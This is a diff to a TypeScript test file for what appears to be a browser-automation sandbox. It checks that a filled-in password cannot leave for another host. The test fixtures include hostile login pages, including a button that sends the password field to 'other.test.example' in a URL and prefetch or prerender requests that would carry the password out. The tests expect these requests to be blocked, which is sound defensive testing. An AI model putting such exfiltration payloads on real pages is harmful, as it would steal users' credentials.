@@ -18,7 +18,7 @@ const page = (kind: string): string => `<!doctype html><title>Login</title>
     document.head.append(script)
   }</script>`
 
-test('a page does not go to another host with a login, though the run may go there', async () => {
+test('a page does not navigate to another host with a login, even if the run allows it', async () => {
   const leave = `<!doctype html><title>Login</title><label>Password <input type="password"></label>
     <button onclick="location.href = 'https://other.test.example/top?v=' + document.querySelector('input').value">Go</button>`
   const pages = { '/': leave, '/top': '<title>Elsewhere</title>' }
@@ -38,32 +38,29 @@ test('a page does not go to another host with a login, though the run may go the
   expect((await session.observe()).title).toBe('Login')
 })
 
-test.each(['prefetch', 'prerender'])(
-  'a login does not leave with what is asked for ahead of time: %s',
-  async (kind) => {
-    await using session = await openTestSession({ '/': page(kind) }, {}, { credentials })
-    await session.open('/')
-    await session.click('Go')
-    // The connection for it is open now, and could be reused.
-    await expect.poll(() => session.requests).toContain('other.test.example/0')
-    await session.observe()
-    const { ref } = session.find('Password')
-    const action = { kind: 'use_credential', ref, credential: 'shop', field: 'password' } as const
-    expect((await session.act(action)).failure).toBeNull()
-    await session.observe()
+test.each(['prefetch', 'prerender'])('a login is not sent by prefetching: %s', async (kind) => {
+  await using session = await openTestSession({ '/': page(kind) }, {}, { credentials })
+  await session.open('/')
+  await session.click('Go')
+  // The connection for it is open now, and could be reused.
+  await expect.poll(() => session.requests).toContain('other.test.example/0')
+  await session.observe()
+  const { ref } = session.find('Password')
+  const action = { kind: 'use_credential', ref, credential: 'shop', field: 'password' } as const
+  expect((await session.act(action)).failure).toBeNull()
+  await session.observe()
 
-    await session.click('Go')
+  await session.click('Go')
 
-    const { failedRequests } = await session.observe()
-    expect(failedRequests).toContainEqual({
-      method: 'GET',
-      url: `https://other.test.example/15?${encodeURIComponent(password)}`,
-      status: null,
-      resourceType: 'prefetch',
-      error: loginCuts.ahead,
-      blocked: true,
-    })
-    await session.open('/')
-    expect(session.requests).not.toContain('other.test.example/15')
-  },
-)
+  const { failedRequests } = await session.observe()
+  expect(failedRequests).toContainEqual({
+    method: 'GET',
+    url: `https://other.test.example/15?${encodeURIComponent(password)}`,
+    status: null,
+    resourceType: 'prefetch',
+    error: loginCuts.ahead,
+    blocked: true,
+  })
+  await session.open('/')
+  expect(session.requests).not.toContain('other.test.example/15')
+})
